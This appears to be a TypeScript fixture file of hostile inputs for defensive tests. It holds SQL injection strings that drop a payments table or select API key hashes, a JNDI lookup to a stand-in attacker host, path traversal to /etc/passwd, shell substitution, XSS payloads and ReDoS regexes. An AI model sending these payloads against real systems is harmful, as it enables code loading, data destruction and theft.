/** What a database, a shell, a log, a template or a reader could take for something else than text. */
export const injections: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE payments; --",
  '" OR ""="',
  "x' UNION SELECT hash FROM api_keys --",
  '$1',
  `\${jndi:ldap://attacker.example/a}`,
  '{{7*7}}',
  `\${7*7}`,
  '%s%s%n',
  '%',
  '_%',
  '\\',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '__proto__',
  'constructor.prototype.polluted',
  '__proto__.polluted=1',
  'a=1&__proto__[polluted]=1',
  "=cmd|' /C calc'!A0",
  '$(id)',
  '`id`',
  'a\r\nSet-Cookie: stolen=1',
  'a\nlevel=error forged line',
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\u202e\u2066gnp.exe',
  '\ufeff',
  '\u200b',
  'ｓｕｐｐｏｒｔ',
  'İ',
  'é'.repeat(300),
  'x'.repeat(100_000),
  '9'.repeat(400),
  '1e400',
  'NaN',
  '[object Object]',
  'null',
  'undefined',
  '',
  ' ',
];

/** Texts that a page would run if it took them for markup, an attribute, a URL or a script. */
export const scripts: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '</script><script>alert(1)</script>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
];

/** One text with all of them that a small field can hold: markup, the end of an attribute, and the end of a script. */
export const shortScript = '"\'></script><img src=x onerror=alert(1)>';

/** Regular expressions that never end in a backtracking engine, and invalid ones. */
export const patterns: readonly string[] = [
  '(a+)+$',
  '([a-zA-Z]+)*$',
  '(a|aa)+$',
  '(.*a){20}',
  '(?=(a+))a*b\\1',
  '^(([a-z])+.)+[A-Z]([a-z])+$',
  '(?<name>a)\\k<name>',
  '(',
  '[',
  '(?:',
  '*',
  '\\',
  '{1,99999}',
  'a{0,65535}{0,65535}',
];

/** Ids without a row: malformed ones, and ones that a careless comparison could match. */
export const malformedIds: readonly string[] = [
  '',
  ' ',
  '0',
  'null',
  "' OR 1=1 --",
  '../..',
  '%00',
  '\u0000',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '{01990000-0000-7000-8000-000000000000}',
  '01990000000070008000000000000000',
  '01990000-0000-7000-8000-000000000000 ',
  'urn:uuid:01990000-0000-7000-8000-000000000000',
  'x'.repeat(10_000),
];

/** A well-formed id of no row. */
export const missingId = '01990000-0000-7000-8000-000000000000';

export const numbers: readonly unknown[] = [
  0,
  -0,
  -1,
  0.1,
  1e-320,
  2 ** 31,
  2 ** 53,
  Number.MAX_VALUE,
  Number.POSITIVE_INFINITY,
  Number.NaN,
  '10',
  '1e3',
  [10],
];

/** Values that no field expects. Parsed JSON can have an own key `__proto__`. */
export const shapes: readonly unknown[] = [
  null,
  true,
  [],
  {},
  [[[[]]]],
  JSON.parse('{"__proto__":{"polluted":true}}'),
  JSON.parse('{"constructor":{"prototype":{"polluted":true}}}'),
  { toString: 'x', valueOf: 'y' },
  { $gt: '' },
  JSON.parse('{"then":"x"}'),
  Array.from({ length: 20_000 }, () => 0),
];

/** JSON text that is nested so deep that a careless reader overflows its stack. */
export const deepJson = (levels = 40_000): string => `${'['.repeat(levels)}${']'.repeat(levels)}`;
